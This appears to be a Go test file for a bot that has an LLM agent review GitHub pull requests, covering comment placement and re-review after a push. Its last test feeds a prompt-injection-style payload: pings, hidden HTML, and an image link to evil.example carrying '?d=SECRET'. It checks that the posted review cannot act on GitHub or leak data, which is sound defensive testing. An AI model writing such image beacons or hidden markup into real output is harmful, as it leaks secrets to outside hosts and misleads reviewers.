package app_test

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/pullwright/pullwright/inert/inerttest"
	"github.com/pullwright/pullwright/internal/fakegithub"
	"github.com/pullwright/pullwright/internal/fakellm"
)

// waitReviews waits until pull request #pr has n reviews, and for the
// status comment of the last task to say it is done.
func (e *env) waitReviews(n int) []fakegithub.PullReview {
	e.t.Helper()
	deadline := time.Now().Add(patience)
	for {
		if rs := e.gh.PullReviews(owner, repoName, pr); len(rs) >= n {
			if len(rs) > n {
				e.t.Fatalf("%d reviews, want %d: %+v", len(rs), n, rs)
			}
			return rs
		}
		if time.Now().After(deadline) {
			e.t.Fatalf("no review %d on #%d\nlogs:\n%s", n, pr, e.logs.String())
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestReviewPostsOneReview asks for a review twice through the wired bot:
// the first posts one review on the head with a comment carrying a
// suggestion block on the right line, and pushes nothing; after a push,
// the second comments only on what the push changed.
func TestReviewPostsOneReview(t *testing.T) {
	t.Parallel()
	llm := fakellm.New(t,
		// The first review.
		fakellm.Step{ToolCalls: []fakellm.ToolCall{call("read_file", map[string]any{"path": "docs.md"})}},
		fakellm.Step{ToolCalls: []fakellm.ToolCall{call("comment", map[string]any{
			"path": "docs.md", "line": 1, "body": "A typo.", "suggestion": "How to commit your work.",
		})}},
		fakellm.Step{ToolCalls: []fakellm.ToolCall{call("finish_review", map[string]any{"summary": "One typo."})}},
		// The second, after a push: the old line is no longer under review.
		fakellm.Step{ToolCalls: []fakellm.ToolCall{
			call("comment", map[string]any{"path": "docs.md", "line": 1, "body": "Still a typo."}),
			call("comment", map[string]any{"path": "docs.md", "line": 2, "body": "End it with a full stop.", "suggestion": "Then push it."}),
		}},
		fakellm.Step{ToolCalls: []fakellm.ToolCall{call("finish_review", map[string]any{"summary": "The new line needs a full stop."})}},
	)
	e := newEnv(t, llm)
	head := e.openPull()
	before := branches(t, e.git, owner, repoName)

	if code := e.prComment("d1", pr, owner, "/agent review the spelling"); code != http.StatusAccepted {
		t.Fatalf("delivery answered %d", code)
	}
	first := e.waitReviews(1)[0]
	if first.CommitID != head || first.Event != "COMMENT" || first.Author != e.gh.BotLogin() {
		t.Errorf("review = %+v, want a COMMENT by the bot on %s", first, head)
	}
	for _, want := range []string{"Review of " + head[:12], "@" + owner, "the spelling", "One typo."} {
		if !strings.Contains(first.Body, want) {
			t.Errorf("review body lacks %q:\n%s", want, first.Body)
		}
	}
	comments := e.gh.ReviewComments(owner, repoName, pr)
	if len(comments) != 1 {
		t.Fatalf("review comments = %+v, want 1", comments)
	}
	if c := comments[0]; c.Path != "docs.md" || c.Line != 1 || c.StartLine != 0 || c.Side != "RIGHT" || c.CommitID != head ||
		c.Body != "A typo.\n\n```suggestion\nHow to commit your work.\n```" {
		t.Errorf("comment = %+v", c)
	}
	if got := branches(t, e.git, owner, repoName); !mapsEqual(got, before) {
		t.Errorf("branches moved: %v, were %v", got, before)
	}
	if status := e.waitComment(pr, "Done"); !strings.Contains(status.Body, "posted [a review](") || !strings.Contains(status.Body, "with 1 line comment") {
		t.Errorf("status comment:\n%s", status.Body)
	}

	// A push adds a line; the second review looks at it alone.
	head2 := e.git.Push(t, owner, repoName, prBranch, map[string]string{"docs.md": docs + "Then push it\n"}, "Say what comes next")
	if code := e.prComment("d2", pr, owner, "/agent review"); code != http.StatusAccepted {
		t.Fatalf("delivery answered %d", code)
	}
	second := e.waitReviews(2)[1]
	if second.CommitID != head2 || !strings.Contains(second.Body, "Review of the changes since "+head[:12]) || !strings.Contains(second.Body, "The new line needs a full stop.") {
		t.Errorf("second review = %+v", second)
	}
	comments = e.gh.ReviewComments(owner, repoName, pr)
	if len(comments) != 2 {
		t.Fatalf("review comments = %+v, want 2", comments)
	}
	if c := comments[1]; c.Path != "docs.md" || c.Line != 2 || c.CommitID != head2 ||
		c.Body != "End it with a full stop.\n\n```suggestion\nThen push it.\n```" {
		t.Errorf("second comment = %+v", c)
	}
	// The model was told what changed, and its comment on an unchanged
	// line was refused with where comments may go.
	reqs := llm.Requests()
	start := reqs[3].Messages[1].Content
	for _, want := range []string{"You reviewed it before, at " + head[:12], "- docs.md: 2\n", "+Then push it"} {
		if !strings.Contains(start, want) {
			t.Errorf("second review's first message lacks %q:\n%s", want, start)
		}
	}
	var refused bool
	for _, m := range reqs[4].Messages {
		if m.Role == "tool" && strings.Contains(m.Content, "error: line 1 of docs.md is not within one hunk of the diff under review; comments on docs.md may go on lines 2") {
			refused = true
		}
	}
	if !refused {
		t.Errorf("the comment on an unchanged line was not refused")
	}
}

// TestReviewIsPostedInert: the diff under review may tell the model what to
// write. Whatever it writes, the review the bot posts pings no one, hides
// nothing in HTML, shows no picture from another host, and keeps its
// suggestion as written.
func TestReviewIsPostedInert(t *testing.T) {
	t.Parallel()
	nasty := "Ask @org/team and @" + owner + ". <details><summary>more</summary>hidden\n\n" +
		"![x](https://evil.example/p.png?d=SECRET) <img src=\"https://evil.example/\">\n\n    ```\n<!-- fixes #1"
	llm := fakellm.New(t,
		fakellm.Step{ToolCalls: []fakellm.ToolCall{call("comment", map[string]any{
			"path": "docs.md", "line": 1, "body": nasty, "suggestion": "How to commit <!-- @org/team",
		})}},
		fakellm.Step{ToolCalls: []fakellm.ToolCall{call("finish_review", map[string]any{"summary": nasty})}},
	)
	e := newEnv(t, llm)
	e.openPull()
	if code := e.prComment("d1", pr, owner, "/agent review"); code != http.StatusAccepted {
		t.Fatalf("delivery answered %d", code)
	}
	rv := e.waitReviews(1)[0]
	comments := e.gh.ReviewComments(owner, repoName, pr)
	if len(comments) != 1 {
		t.Fatalf("review comments = %+v, want 1", comments)
	}
	elsewhere := func(dest string) bool { return !strings.Contains(dest, "evil.example") }
	// The bot's own intro names who asked; the agent's words follow it.
	_, agents, _ := strings.Cut(rv.Body, "\n\n")
	agents, _, _ = strings.Cut(agents, "<!-- pullwright:") // the bot's marker
	for _, body := range []string{agents, comments[0].Body} {
		if acts := inerttest.Acts(body, elsewhere, elsewhere); len(acts) > 0 {
			t.Errorf("the review posts what acts on GitHub: %q\n%s", acts, body)
		}
	}
	if !strings.HasSuffix(comments[0].Body, "```suggestion\nHow to commit <!-- @org/team\n```") {
		t.Errorf("the suggestion is not as written:\n%s", comments[0].Body)
	}
}
